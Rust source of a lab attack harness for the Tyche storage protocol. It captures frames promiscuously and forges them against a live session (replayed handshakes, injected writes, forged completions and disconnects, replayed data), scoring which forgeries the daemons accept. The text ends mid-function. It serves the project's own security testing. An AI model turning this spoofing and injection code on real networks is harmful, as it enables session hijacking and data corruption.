//! `tyche-attack`: the attacker of the attack test (`cargo xtask attack`), run in a
//! third network namespace whose veth is a port of the lab's bridge, where it sees every frame
//! of the session between `--initiator` and `--target`. Not a tool for anything else: it forges
//! frames of a live session.
//!
//! It captures through a promiscuous AF_PACKET socket (its own frames excluded), keeps what a
//! passive listener learns of each channel (session id, channel index, the granted parameters,
//! the sequence numbers and acknowledgements of each direction, the requests in flight, the
//! tags and floor, captured CONNECT + PROOF and DATA frames, and the bytes each direction sends
//! after its messages, such as an authentication trailer) and runs one attack per command read
//! from stdin, printing one JSON line per command on stdout:
//!
//! | command | attack |
//! |---|---|
//! | `wait-handshake SECS` | waits for a keyed CONNECT + PROOF from the initiator that was ACCEPTed, and keeps it |
//! | `replay-connect N` | sends that CONNECT + PROOF again, byte for byte, N times |
//! | `wait-live SECS` | waits for the ACCEPT of a session other than the kept handshake's |
//! | `readdress N CH` | sends the kept CONNECT + PROOF re-addressed to the live session and channel `CH` |
//! | `wait-traffic SECS` | waits for requests flowing on the live session |
//! | `forge-completion N` | answers each of the next N requests seen in flight with a forged COMPLETION OK |
//! | `inject-write N` | sends N injected WRITE requests (fresh tag, free slots, a position in the window) and their DATA |
//! | `disconnect-initiator N`, `disconnect-target N` | sends N forged DISCONNECTs to that end of the live channel |
//! | `replay-data N` | replays N captured DATA frames byte for byte (first those of earlier incarnations of the channel that fall in its window now) |
//! | `huge-floor N` | sends N FLUSH requests with a huge tag and FLOOR |
//! | `quit` | exits |
//!
//! Crafted frames are made with `tyche-wire`'s emit; bytes the captured frames of the same
//! direction carry after their message (and the reserved high byte of FLAGS) are copied onto them,
//! so that once frames are authenticated the forgeries carry a trailer, just a wrong one. Each
//! attack stops early once it has been accepted.
//!
//! An attack is **accepted** when the wire shows it had an effect (nothing is read from the
//! daemons):
//!
//! - the target answers an injected request: a COMPLETION (or DATA) with its tag;
//! - the victim acknowledges a ring position only the attacker filled: an ACK (cumulative or
//!   SACK) or a NACK from it covers a sequence number at least 4 beyond the last one its honest
//!   peer had sent, and the honest peer did not reach it within the next few milliseconds (so
//!   a frame captured out of order is not mistaken for one); a forged frame the victim took into
//!   its ring displaces the honest frame that later comes with that number;
//! - after a huge FLOOR, the target answers requests ABORTED;
//! - the target ACCEPTs a replayed or re-addressed CONNECT;
//! - after a forged DISCONNECT to the initiator, the initiator connects again; after one to the
//!   target, the target goes silent on the channel while the initiator keeps sending (or the
//!   initiator connects again).
//!
//! Each result line is `{"attack", "tried" (frames sent), "accepted", "evidence": [..],
//! "observed"}`; `evidence` says what showed it was accepted, `observed` what the victim did
//! otherwise.

use std::cell::Cell;
use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
use std::io::{self, BufRead, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::process::ExitCode;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use clap::Parser;
use serde_json::{json, Value};
use tyche_wire::{
    layout, ChannelParams, Completion, Data, DataHeader, Disconnect, DisconnectReason, Envelope, Frame, MacAddr,
    Message, Op, Request, Seq, Status, DEFAULT_ETHERTYPE, ETH_HEADER_LEN, ETH_MIN_FRAME_LEN, NO_SLOT,
};

/// Attacks a live Tyche session from a port that sees its frames (attack test only).
#[derive(Debug, Parser)]
#[command(name = "tyche-attack")]
struct Args {
    /// Interface to capture and send on (the attacker's port of the lab's bridge).
    #[arg(long)]
    iface: String,
    /// The target's MAC.
    #[arg(long)]
    target: MacAddr,
    /// The honest initiator's MAC.
    #[arg(long)]
    initiator: MacAddr,
    /// EtherType.
    #[arg(long, default_value_t = DEFAULT_ETHERTYPE)]
    ethertype: u16,
    /// Forged sequenced frames take this many positions past the last one the honest sender
    /// used (inside the receiver's window; at most 60, so that a SACK or NACK can show them).
    #[arg(long, default_value_t = 48)]
    ahead: u32,
    /// Microseconds between attack frames.
    #[arg(long, default_value_t = 1000)]
    spacing_us: u64,
    /// Milliseconds to watch after an attack's last frame.
    #[arg(long, default_value_t = 500)]
    settle_ms: u64,
    /// Byte offset in the export of the injected writes.
    #[arg(long, default_value_t = 60 << 20)]
    inject_offset: u64,
    /// Self-check of the detector: every attack frame goes out from this source MAC instead,
    /// which no channel has, so that the daemons drop them all (as they will once frames are
    /// authenticated) and nothing may be reported accepted.
    #[arg(long)]
    decoy: Option<MacAddr>,
}

/// Positions beyond the honest sender's last one that an acknowledgement must cover to count.
const MARGIN: u32 = 4;
/// An acknowledgement of a forged position counts once the honest sender has not reached that
/// position for this long after it was captured (capture order across CPUs is not exact).
const CONFIRM: Duration = Duration::from_millis(3);
/// The marker the injected writes' payload repeats (the xtask looks for it in the export).
const MARKER: &[u8] = b"TYCHE-ATTACK-INJECTED-WRITE ";
/// Tags of injected writes are this far above the highest honest tag seen.
const TAG_JUMP: u64 = 1 << 32;
/// The huge FLOOR (and tag) of the floor attack.
const HUGE_FLOOR: u64 = 1 << 62;
/// Flag bits of the common header's reserved high byte (where frame authentication puts its flag).
const FLAGS_HIGH: u16 = 0xff00;
/// DATA frames kept per direction and incarnation of a channel: the first ones and the latest.
const KEEP_FIRST: usize = 1024;
const KEEP_LAST: usize = 256;

// ---------------------------------------------------------------------------------------------
// The raw socket.

fn sys(ret: libc::c_int) -> io::Result<libc::c_int> {
    if ret < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(ret)
    }
}

fn setsockopt<T>(fd: &OwnedFd, level: libc::c_int, name: libc::c_int, value: &T) -> io::Result<()> {
    // SAFETY: `value` is a live `T` and the length passed is its size.
    sys(unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            (value as *const T).cast(),
            std::mem::size_of::<T>() as libc::socklen_t,
        )
    })
    .map(|_| ())
}

/// An AF_PACKET socket on one interface, promiscuous, that does not see its own frames.
#[derive(Debug)]
struct Raw {
    fd: OwnedFd,
    /// `--decoy`: the source MAC every frame is sent from instead of its own.
    decoy: Option<MacAddr>,
}

impl Raw {
    fn open(iface: &str, ethertype: u16, decoy: Option<MacAddr>) -> io::Result<Raw> {
        let (fd, ifindex) = tyche_xdp::packet_socket(iface, ethertype, false)?;
        // SAFETY: an all-zero packet_mreq is a valid value of the plain C struct.
        let mut mreq: libc::packet_mreq = unsafe { std::mem::zeroed() };
        mreq.mr_ifindex = ifindex as i32;
        mreq.mr_type = libc::PACKET_MR_PROMISC as u16;
        setsockopt(&fd, libc::SOL_PACKET, libc::PACKET_ADD_MEMBERSHIP, &mreq)?;
        setsockopt(&fd, libc::SOL_PACKET, libc::PACKET_IGNORE_OUTGOING, &1 as &libc::c_int)?;
        let _ = setsockopt(&fd, libc::SOL_SOCKET, libc::SO_RCVBUFFORCE, &(8 << 20) as &libc::c_int);
        let tv = libc::timeval { tv_sec: 0, tv_usec: 20_000 };
        setsockopt(&fd, libc::SOL_SOCKET, libc::SO_RCVTIMEO, &tv)?;
        Ok(Raw { fd, decoy })
    }

    /// Receives one frame into `buf`, waiting at most 20 ms.
    fn recv(&self, buf: &mut [u8]) -> io::Result<Option<usize>> {
        // SAFETY: writes at most `buf.len()` bytes into the live buffer.
        let got = unsafe { libc::recv(self.fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
        if got < 0 {
            let e = io::Error::last_os_error();
            return match e.kind() {
                io::ErrorKind::WouldBlock | io::ErrorKind::Interrupted | io::ErrorKind::TimedOut => Ok(None),
                _ => Err(e),
            };
        }
        Ok(Some(got as usize))
    }

    /// Sends one whole frame as it is (but for `--decoy`), retrying a moment while the device is
    /// full.
    fn send(&self, frame: &[u8]) -> io::Result<()> {
        let decoyed;
        let frame = match self.decoy {
            Some(mac) if frame.len() >= ETH_HEADER_LEN => {
                let mut f = frame.to_vec();
                f[6..12].copy_from_slice(&mac.0);
                decoyed = f;
                &decoyed[..]
            }
            _ => frame,
        };
        for _ in 0..1000 {
            // SAFETY: reads `frame.len()` bytes from the live slice.
            let sent =
                unsafe { libc::send(self.fd.as_raw_fd(), frame.as_ptr().cast(), frame.len(), libc::MSG_DONTWAIT) };
            if sent >= 0 {
                return Ok(());
            }
            let e = io::Error::last_os_error();
            if e.kind() != io::ErrorKind::WouldBlock && e.raw_os_error() != Some(libc::ENOBUFS) {
                return Err(e);
            }
            std::thread::sleep(Duration::from_micros(50));
        }
        Err(io::Error::new(io::ErrorKind::WouldBlock, "the device took no frame for 50 ms"))
    }
}

// ---------------------------------------------------------------------------------------------
// What the listener knows.

/// `a` is after `b` in serial-number arithmetic, by this many positions (negative: before).
fn dist(a: u32, b: u32) -> i64 {
    a.wrapping_sub(b) as i32 as i64
}

/// What a direction sends after its messages, and the high byte of its FLAGS.
#[derive(Debug, Clone, Default)]
struct Template {
    flags_high: u16,
    trailer: Vec<u8>,
}

impl Template {
    fn of(bytes: &[u8], msg_len: usize) -> Template {
        let end = ETH_HEADER_LEN + msg_len;
        let flags = u16::from_be_bytes([bytes[ETH_HEADER_LEN + 2], bytes[ETH_HEADER_LEN + 3]]);
        let flags_high = flags & FLAGS_HIGH;
        // Bytes past the message: a trailer when flagged, or when they are not Ethernet padding.
        let trailer = if flags_high != 0 || bytes.len() > end.max(ETH_MIN_FRAME_LEN) {
            bytes[end..].to_vec()
        } else {
            Vec::new()
        };
        Template { flags_high, trailer }
    }
}

/// An acknowledgement of a forged position, waiting to be confirmed.
#[derive(Debug)]
struct Pending {
    attack: usize,
    pos: u32,
    at: Instant,
    text: String,
}

/// One direction of a channel (as sent by its honest end), in the current incarnation.
#[derive(Debug, Default)]
struct Dir {
    /// Highest sequence number the honest sender used.
    high: Option<u32>,
    /// Frames of any kind from the honest sender.
    frames: u64,
    last_at: Option<Instant>,
    /// The cumulative acknowledgement this sender last gave for the opposite direction.
    ack: u32,
    template: Template,
    /// Positions the attacker filled: attack and when.
    forged: BTreeMap<u32, (usize, Instant)>,
    pending: Vec<Pending>,
    confirmed: HashSet<u32>,
    /// DATA frames as captured, by sequence number: the first ones of the incarnation.
    data_first: BTreeMap<u32, Vec<u8>>,
    data_last: VecDeque<(u32, Vec<u8>)>,
}

impl Dir {
    /// The next sequence number the honest sender will use.
    fn next(&self) -> u32 {
        self.high.map_or(0, |h| h.wrapping_add(1))
    }

    /// Whether `pos` is far enough past the honest sender's last frame that only the attacker
    /// can have filled it.
    fn ahead(&self, pos: u32) -> bool {
        dist(pos, self.next()) >= MARGIN as i64
    }

    fn honest(&mut self, seq: Option<u32>, now: Instant) {
        self.frames += 1;
        self.last_at = Some(now);
        if let Some(s) = seq {
            if self.high.is_none_or(|h| dist(s, h) > 0) {
                self.high = Some(s);
            }
            // An acknowledgement of a position the honest sender reached right after it was
            // captured may be of the honest frame: not evidence.
            self.pending.retain(|p| !(dist(s, p.pos) >= 0 && now.duration_since(p.at) < CONFIRM));
        }
    }

    fn keep_data(&mut self, seq: u32, bytes: &[u8]) {
        if self.data_first.len() < KEEP_FIRST {
            self.data_first.insert(seq, bytes.to_vec());
        }
        if self.data_last.len() >= KEEP_LAST {
            self.data_last.pop_front();
        }
        self.data_last.push_back((seq, bytes.to_vec()));
    }

    fn candidate(&mut self, pos: u32, now: Instant, why: &str, victim: &str) {
        let Some(&(attack, _)) = self.forged.get(&pos) else { return };
        if !self.ahead(pos) || self.confirmed.contains(&pos) || self.pending.iter().any(|p| p.pos == pos) {
            return;
        }
        let text = format!(
            "{victim} {why} position {pos}, filled only by the attacker (the honest peer had sent up to {})",
            self.high.map_or_else(|| "none".to_string(), |h| h.to_string())
        );
        self.pending.push(Pending { attack, pos, at: now, text });
    }

    /// The victim (the receiver of this direction) acknowledged: cumulative `cum`, SACK `sack`.
    fn acked(&mut self, cum: u32, sack: u64, now: Instant, victim: &str) {
        let below: Vec<u32> = self.forged.keys().copied().filter(|&f| dist(cum, f) > 0).collect();
        for f in below {
            self.candidate(f, now, "acknowledged (cumulatively)", victim);
        }
        for i in 0..64 {
            if sack >> i & 1 == 1 {
                self.candidate(cum.wrapping_add(1 + i), now, "SACKed", victim);
            }
        }
    }

    /// The victim NACKed `missing` from `base`: it holds a frame past the highest of them.
    fn nacked(&mut self, base: u32, missing: u64, now: Instant, victim: &str) {
        if missing == 0 {
            return;
        }
        let hi = base.wrapping_add(63 - missing.leading_zeros());
        if !self.ahead(hi) {
            return;
        }
        let beyond = self.forged.keys().copied().filter(|&f| dist(f, hi) > 0).min_by_key(|&f| dist(f, hi));
        if let Some(f) = beyond {
            let why = format!("NACKed positions up to {hi} (never sent), so it holds");
            self.candidate(f, now, &why, victim);
        }
    }

    /// Confirms the acknowledgements older than [`CONFIRM`].
    fn sweep(&mut self, now: Instant, evidence: &mut [Vec<String>]) {
        let (due, keep): (Vec<Pending>, Vec<Pending>) =
            self.pending.drain(..).partition(|p| now.duration_since(p.at) >= CONFIRM);
        self.pending = keep;
        for p in due {
            self.confirmed.insert(p.pos);
            if let Some(e) = evidence.get_mut(p.attack) {
                e.push(p.text);
            }
        }
    }
}

/// DATA frames of an earlier incarnation of a channel.
#[derive(Debug, Default)]
struct Old {
    to_t: BTreeMap<u32, Vec<u8>>,
    to_i: BTreeMap<u32, Vec<u8>>,
}

/// A request seen in flight.
#[derive(Debug, Clone, Copy)]
struct InFlight {
    tag: u64,
    damq: u16,
}

/// One channel of a session, as seen on the wire.
#[derive(Debug, Default)]
struct Chan {
    /// Nonce of the CONNECT its current incarnation was accepted for.
    nonce: Option<u64>,
    params: Option<ChannelParams>,
    /// Initiator to target.
    to_t: Dir,
    /// Target to initiator.
    to_i: Dir,
    inflight: HashMap<u16, InFlight>,
    old: Vec<Old>,
    /// Target frames of any kind on this channel.
    target_frames: u64,
    last_request: Option<Instant>,
    /// When the target last sent a COMPLETION on it.
    last_completion: Option<Instant>,
}

/// A captured CONNECT from the initiator.
#[derive(Debug, Clone)]
struct CapturedConnect {
    bytes: Vec<u8>,
    nonce: u64,
    session: u64,
    proof: bool,
    host: Option<[u8; 16]>,
    name_len: usize,
    at: Instant,
}

/// An ACCEPT, CHALLENGE or REJECT from the target.
#[derive(Debug, Clone)]
struct Reply {
    kind: &'static str,
    nonce: u64,
    session: u64,
    channel: u16,
    detail: String,
    at: Instant,
}

/// A forged COMPLETION armed on the capture thread: one for each request seen in flight.
#[derive(Debug)]
struct Arm {
    attack: usize,
    remaining: u32,
    sent: u32,
    last: Option<Instant>,
}

#[derive(Debug)]
struct State {
    target: MacAddr,
    initiator: MacAddr,
    ethertype: u16,
    ahead: u32,
    frames: u64,
    chans: HashMap<(u64, u16), Chan>,
    /// Per session: highest tag and floor seen in its requests.
    tags: HashMap<u64, (u64, u64)>,
    connects: Vec<CapturedConnect>,
    replies: Vec<Reply>,
    /// (when, session, channel, tag, status) of every COMPLETION from the target.
    completions: VecDeque<(Instant, u64, u16, u64, Status)>,
    /// (when, session, channel) of the honest initiator's CONNECTs.
    reconnects: Vec<(Instant, u64, u16)>,
    /// The channel of the newest honest request or ACCEPT.
    live: Option<(u64, u16)>,
    /// Tags of injected requests: attack.
    injected: HashMap<u64, usize>,
    /// Nonces the attacker replays (their ACCEPTs are not the honest initiator's).
    replayed_nonces: HashSet<u64>,
    /// The kept handshake (CONNECT + PROOF) and its challenge's time.
    handshake: Option<(CapturedConnect, Option<Instant>)>,
    evidence: Vec<Vec<String>>,
    /// The live channel when each attack began.
    attacked: Vec<Option<(u64, u16)>>,
    arm: Option<Arm>,
    raw: Arc<Raw>,
}

impl State {
    fn new_attack(&mut self) -> usize {
        self.evidence.push(Vec::new());
        self.attacked.push(self.live);
        self.evidence.len() - 1
    }

    fn accepted(&self, attack: usize) -> bool {
        !self.evidence[attack].is_empty()
    }

    fn pending(&self) -> bool {
        self.chans.values().any(|c| !c.to_t.pending.is_empty() || !c.to_i.pending.is_empty())
    }

    fn sweep(&mut self, now: Instant) {
        for c in self.chans.values_mut() {
            c.to_t.sweep(now, &mut self.evidence);
            c.to_i.sweep(now, &mut self.evidence);
        }
    }

    fn observe(&mut self, bytes: &[u8], now: Instant) {
        let Ok(frame) = Frame::new_checked(bytes, self.ethertype) else { return };
        let Ok(msg) = frame.parse() else { return };
        self.frames += 1;
        let (src, dst) = (frame.src(), frame.dst());
        let key = (frame.session(), frame.channel());
        let msg_len = frame.message().len();
        if src == self.initiator && dst == self.target {
            self.on_initiator_frame(key, bytes, msg_len, &msg, now);
        } else if src == self.target {
            // Handshake replies to any MAC (a decoy's included), the rest only to the initiator.
            let reply =
                |kind, nonce, detail: String| Reply { kind, nonce, session: key.0, channel: key.1, detail, at: now };
            match &msg {
                Message::Accept(a) => {
                    let to = if dst == self.initiator { String::new() } else { format!(" to {dst}") };
                    let detail = format!("session {:016x} channel {}{to}", key.0, key.1);
                    self.replies.push(reply("ACCEPT", a.nonce, detail));
                }
                Message::Challenge(c) => self.replies.push(reply("CHALLENGE", c.nonce, String::new())),
                Message::Reject(r) => self.replies.push(reply("REJECT", r.nonce, format!("{:?}", r.reason))),
                _ => {}
            }
            if dst == self.initiator {
                self.on_target_frame(key, bytes, msg_len, &msg, now);
            }
        }
        self.sweep(now);
    }

    fn on_initiator_frame(&mut self, key: (u64, u16), bytes: &[u8], msg_len: usize, msg: &Message<'_>, now: Instant) {
        let victim = "the initiator";
        match msg {
            Message::Connect(c) => {
                self.connects.push(CapturedConnect {
                    bytes: bytes.to_vec(),
                    nonce: c.nonce,
                    session: key.0,
                    proof: c.proof.is_some(),
                    host: c.host,
                    name_len: c.export.len(),
                    at: now,
                });
                if !self.replayed_nonces.contains(&c.nonce) && key.0 != 0 {
                    self.reconnects.push((now, key.0, key.1));
                }
                return;
            }
            Message::Discover(_) => return,
            _ => {}
        }
        let ch = self.chans.entry(key).or_default();
        ch.to_t.template = Template::of(bytes, msg_len);
        let seq = frame_seq(msg);
        ch.to_t.honest(seq, now);
        match msg {
            Message::Request(r) => {
                ch.to_t.ack = r.seq.ack;
                ch.to_i.acked(r.seq.ack, 0, now, victim);
                ch.inflight.insert(r.remq, InFlight { tag: r.tag, damq: r.damq });
                ch.last_request = Some(now);
                let t = self.tags.entry(key.0).or_default();
                t.0 = t.0.max(r.tag);
                t.1 = t.1.max(r.floor);
                self.live = Some(key);
                self.fire_completion(key, r, now);
            }
            Message::Data(d) => {
                ch.to_t.ack = d.header.seq.ack;
                ch.to_i.acked(d.header.seq.ack, 0, now, victim);
                ch.to_t.keep_data(d.header.seq.seq, bytes);
            }
            Message::Ack(a) => ch.to_i.acked(a.cumulative, a.sack, now, victim),
            Message::Nack(n) => ch.to_i.nacked(n.base, n.missing, now, victim),
            _ => {}
        }
    }

    fn on_target_frame(&mut self, key: (u64, u16), bytes: &[u8], msg_len: usize, msg: &Message<'_>, now: Instant) {
        let victim = "the target";
        match msg {
            Message::Accept(a) => {
                let ch = self.chans.entry(key).or_default();
                if ch.nonce != Some(a.nonce) {
                    // A new incarnation of the channel: its sequence numbers start again at 0.
                    if ch.nonce.is_some() {
                        let old = Old {
                            to_t: std::mem::take(&mut ch.to_t.data_first),
                            to_i: std::mem::take(&mut ch.to_i.data_first),
                        };
                        ch.old.push(old);
                        if ch.old.len() > 4 {
                            ch.old.remove(0);
                        }
                        let (tt, ti) = (ch.to_t.template.clone(), ch.to_i.template.clone());
                        ch.to_t = Dir { template: tt, ..Dir::default() };
                        ch.to_i = Dir { template: ti, ..Dir::default() };
                        ch.inflight.clear();
                    }
                    ch.nonce = Some(a.nonce);
                    ch.params = Some(a.params);
                }
                if !self.replayed_nonces.contains(&a.nonce) {
                    self.live = Some(key);
                }
                return;
            }
            Message::Challenge(_) | Message::Reject(_) => return,
            Message::DiscoverReply(_) => return,
            _ => {}
        }
        let ch = self.chans.entry(key).or_default();
        ch.target_frames += 1;
        ch.to_i.template = Template::of(bytes, msg_len);
        let seq = frame_seq(msg);
        ch.to_i.honest(seq, now);
        match msg {
            Message::Completion(c) => {
                ch.to_i.ack = c.seq.ack;
                ch.to_t.acked(c.seq.ack, 0, now, victim);
                ch.last_completion = Some(now);
                if ch.inflight.get(&c.remq).is_some_and(|f| f.tag == c.tag) {
                    ch.inflight.remove(&c.remq);
                }
                if self.completions.len() >= 100_000 {
                    self.completions.pop_front();
                }
                self.completions.push_back((now, key.0, key.1, c.tag, c.status));
                if let Some(&attack) = self.injected.get(&c.tag) {
                    self.evidence[attack]
                        .push(format!("the target answered injected tag {:#x} with COMPLETION {:?}", c.tag, c.status));
                }
            }
            Message::Data(d) => {
                ch.to_i.ack = d.header.seq.ack;
                ch.to_t.acked(d.header.seq.ack, 0, now, victim);
                ch.to_i.keep_data(d.header.seq.seq, bytes);
                if let Some(&attack) = self.injected.get(&d.header.tag) {
                    self.evidence[attack].push(format!("the target sent DATA for injected tag {:#x}", d.header.tag));
                }
            }
            Message::Ack(a) => ch.to_t.acked(a.cumulative, a.sack, now, victim),
            Message::Nack(n) => ch.to_t.nacked(n.base, n.missing, now, victim),
            _ => {}
        }
    }

    /// Envelope of a frame to the target (`to_target`) or to the initiator on channel `key`.
    fn envelope(&self, key: (u64, u16), to_target: bool) -> Envelope {
        let (dst, src) = if to_target { (self.target, self.initiator) } else { (self.initiator, self.target) };
        Envelope { dst, src, ethertype: self.ethertype, channel: key.1, session: key.0 }
    }

    /// `msg` as a frame on `key`, with the trailer and FLAGS high byte of its direction.
    fn craft(&self, key: (u64, u16), to_target: bool, msg: &Message<'_>) -> Vec<u8> {
        let env = self.envelope(key, to_target);
        let mut buf = vec![0u8; msg.frame_len()];
        msg.emit(&env, &mut buf);
        buf.truncate(ETH_HEADER_LEN + msg.message_len());
        let t = self.chans.get(&key).map(|c| if to_target { &c.to_t.template } else { &c.to_i.template });
        if let Some(t) = t {
            let at = ETH_HEADER_LEN + layout::common::FLAGS.start;
            let flags = u16::from_be_bytes([buf[at], buf[at + 1]]) | t.flags_high;
            buf[at..at + 2].copy_from_slice(&flags.to_be_bytes());
            buf.extend_from_slice(&t.trailer);
        }
        if buf.len() < ETH_MIN_FRAME_LEN {
            buf.resize(ETH_MIN_FRAME_LEN, 0);
        }
        buf
    }

    /// Records that the attacker filled `pos` in a direction of `key`.
    fn forged(&mut self, key: (u64, u16), to_target: bool, pos: u32, attack: usize, now: Instant) {
        let ch = self.chans.entry(key).or_default();
        let dir = if to_target { &mut ch.to_t } else { &mut ch.to_i };
        dir.forged.insert(pos, (attack, now));
        if dir.forged.len() > 8192 {
            dir.forged.pop_first();
        }
    }

    /// With a forged COMPLETION armed: answers request `r` (just seen) OK, ahead of the target.
    fn fire_completion(&mut self, key: (u64, u16), r: &Request, now: Instant) {
        let Some(arm) = &self.arm else { return };
        if arm.remaining == 0
            || self.accepted(arm.attack)
            || arm.last.is_some_and(|l| now - l < Duration::from_micros(500))
        {
            return;
        }
        let attack = arm.attack;
        let ch = &self.chans[&key];
        let pos = ch.to_i.next().wrapping_add(self.ahead + arm.sent % 8);
        let c = Completion {
            seq: Seq { seq: pos, ack: ch.to_i.ack },
            status: Status::Ok,
            remq: r.remq,
            damq: r.damq,
            tag: r.tag,
        };
        let frame = self.craft(key, false, &Message::Completion(c));
        self.forged(key, false, pos, attack, now);
        if self.raw.send(&frame).is_ok() {
            let arm = self.arm.as_mut().expect("armed");
            arm.remaining -= 1;
            arm.sent += 1;
            arm.last = Some(now);
        }
    }
}

fn frame_seq(msg: &Message<'_>) -> Option<u32> {
    match msg {
        Message::Request(r) => Some(r.seq.seq),
        Message::Completion(c) => Some(c.seq.seq),
        Message::Data(d) => Some(d.header.seq.seq),
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------------
// The attacks.

struct Attacker {
    state: Arc<Mutex<State>>,
    raw: Arc<Raw>,
    args: Args,
}

/// What an attack step sends.
type Frames = Vec<Vec<u8>>;

impl Attacker {
    fn lock(&self) -> MutexGuard<'_, State> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn spacing(&self) -> Duration {
        Duration::from_micros(self.args.spacing_us)
    }

    /// Waits up to `secs` for `ready`, checking every 10 ms.
    fn wait<T>(&self, secs: f64, mut ready: impl FnMut(&State) -> Option<T>) -> Option<T> {
        let deadline = Instant::now() + Duration::from_secs_f64(secs);
        loop {
            if let Some(v) = ready(&self.lock()) {
                return Some(v);
            }
            if Instant::now() >= deadline {
                return None;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// Runs an attack: up to `tries` steps, each sending the frames `step` builds (none: the
    /// attack has nothing to send), `spacing` apart, until accepted; then watches `settle`.
    /// `check` looks for evidence only the attack's own logic can tell.
    fn run(
        &self,
        name: &str,
        tries: u32,
        mut step: impl FnMut(&mut State, usize, u32, Instant) -> Option<Frames>,
        mut check: impl FnMut(&State, usize, Instant) -> Option<String>,
    ) -> Value {
        let attack = self.lock().new_attack();
        let started = Instant::now();
        let mut tried = 0u64;
        let mut note = None;
        for i in 0..tries {
            {
                let mut s = self.lock();
                if s.accepted(attack) {
                    break;
                }
                if let Some(e) = check(&s, attack, started) {
                    s.evidence[attack].push(e);
                    break;
                }
            }
            let frames = {
                let mut s = self.lock();
                step(&mut s, attack, i, Instant::now())
            };
            let Some(frames) = frames else {
                note = Some("nothing to send (no live session seen)".to_string());
                break;
            };
            for f in &frames {
                if let Err(e) = self.raw.send(f) {
                    note = Some(format!("send failed: {e}"));
                    break;
                }
                tried += 1;
            }
            if note.is_some() {
                break;
            }
            std::thread::sleep(self.spacing());
        }
        let settle = Instant::now() + Duration::from_millis(self.args.settle_ms);
        loop {
            let now = Instant::now();
            {
                let mut s = self.lock();
                s.sweep(now);
                if !s.accepted(attack) {
                    if let Some(e) = check(&s, attack, started) {
                        s.evidence[attack].push(e);
                    }
                }
                if (s.accepted(attack) && !s.pending()) || now >= settle {
                    break;
                }
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        self.result(name, attack, tried, started, note)
    }

    fn result(&self, name: &str, attack: usize, tried: u64, started: Instant, note: Option<String>) -> Value {
        let s = self.lock();
        let evidence = &s.evidence[attack];
        let mut shown: Vec<String> = evidence.iter().take(3).cloned().collect();
        if evidence.len() > 3 {
            shown.push(format!("(and {} more)", evidence.len() - 3));
        }
        let at = s.attacked[attack]
            .map(|(session, channel)| json!({"session": format!("{session:016x}"), "channel": channel}));
        json!({
            "attack": name,
            "at": at,
            "tried": tried,
            "accepted": !evidence.is_empty(),
            "evidence": shown,
            "observed": note.unwrap_or_default(),
            "secs": started.elapsed().as_secs_f64(),
        })
    }

    /// The live channel with its granted parameters.
    fn live(&self) -> Option<((u64, u16), ChannelParams)> {
        let s = self.lock();
        let key = s.live?;
        Some((key, s.chans.get(&key)?.params?))
    }

    /// Replies of the target to `nonce` since `since`, summed up.
    fn replies_to(&self, nonce: u64, since: Instant) -> String {
        let s = self.lock();
        let mut counts: BTreeMap<String, u64> = BTreeMap::new();
        for r in s.replies.iter().filter(|r| r.nonce == nonce && r.at >= since) {
            *counts.entry(format!("{} {}", r.kind, r.detail).trim().to_string()).or_default() += 1;
        }
        if counts.is_empty() {
            return "the target did not answer".to_string();
        }
        let parts: Vec<String> = counts.into_iter().map(|(k, n)| format!("{k} x{n}")).collect();
        format!("the target answered {}", parts.join(", "))
    }

    fn wait_handshake(&self, secs: f64) -> Value {
        let found = self.wait(secs, |s| {
            s.connects.iter().rev().find_map(|c| {
                let accepted = s.replies.iter().any(|r| r.kind == "ACCEPT" && r.nonce == c.nonce && r.at >= c.at);
                (c.proof && c.session == 0 && accepted).then(|| c.clone())
            })
        });
        let Some(c) = found else {
            return json!({"event": "handshake", "ok": false, "error": "no accepted CONNECT + PROOF captured"});
        };
        let mut s = self.lock();
        let challenged = s.replies.iter().find(|r| r.kind == "CHALLENGE" && r.nonce == c.nonce).map(|r| r.at);
        let session = s.replies.iter().find(|r| r.kind == "ACCEPT" && r.nonce == c.nonce).map_or(0, |r| r.session);
        s.replayed_nonces.insert(c.nonce);
        let out = json!({"event": "handshake", "ok": true, "nonce": format!("{:016x}", c.nonce),
            "session": format!("{session:016x}"), "bytes": c.bytes.len()});
        s.handshake = Some((c, challenged));
        out
    }

    fn wait_live(&self, secs: f64) -> Value {
        let found = self.wait(secs, |s| {
            let old = s.handshake.as_ref().map(|h| h.0.nonce);
            s.replies
                .iter()
                .rev()
                .find(|r| r.kind == "ACCEPT" && Some(r.nonce) != old && !s.replayed_nonces.contains(&r.nonce))
                .map(|r| (r.session, r.channel))
        });
        match found {
            Some((session, channel)) => {
                self.lock().live = Some((session, channel));
                json!({"event": "live", "ok": true, "session": format!("{session:016x}"), "channel": channel})
            }
            None => json!({"event": "live", "ok": false, "error": "no ACCEPT of a live session captured"}),
        }
    }

    fn wait_traffic(&self, secs: f64) -> Value {
        let since = Instant::now();
        let found = self.wait(secs, |s| {
            let key = s.live?;
            let ch = s.chans.get(&key)?;
            let served = ch.last_request.is_some_and(|t| t >= since) && ch.last_completion.is_some_and(|t| t >= since);
            (ch.params.is_some() && served).then_some(key)
        });
        match found {
            Some((session, channel)) => {
                json!({"event": "traffic", "ok": true, "session": format!("{session:016x}"), "channel": channel})
            }
            None => json!({"event": "traffic", "ok": false}),
        }
    }

    /// (6) The kept CONNECT + PROOF, byte for byte, from the original source MAC.
    fn replay_connect(&self, tries: u32) -> Value {
        let Some((c, challenged)) = self.lock().handshake.clone() else {
            return json!({"attack": "replay-connect", "tried": 0, "accepted": false, "evidence": [],
                "observed": "no handshake was captured"});
        };
        let started = Instant::now();
        let mut v = self.run(
            "replay-connect",
            tries,
            |s, _, i, _| {
                if i == 0 {
                    s.replayed_nonces.insert(c.nonce);
                }
                Some(vec![c.bytes.clone()])
            },
            |s, _, since| {
                s.replies.iter().find(|r| r.kind == "ACCEPT" && r.nonce == c.nonce && r.at >= since).map(|r| {
                    format!(
                        "the target ACCEPTed the replayed CONNECT: session {:016x} channel {}",
                        r.session, r.channel
                    )
                })
            },
        );
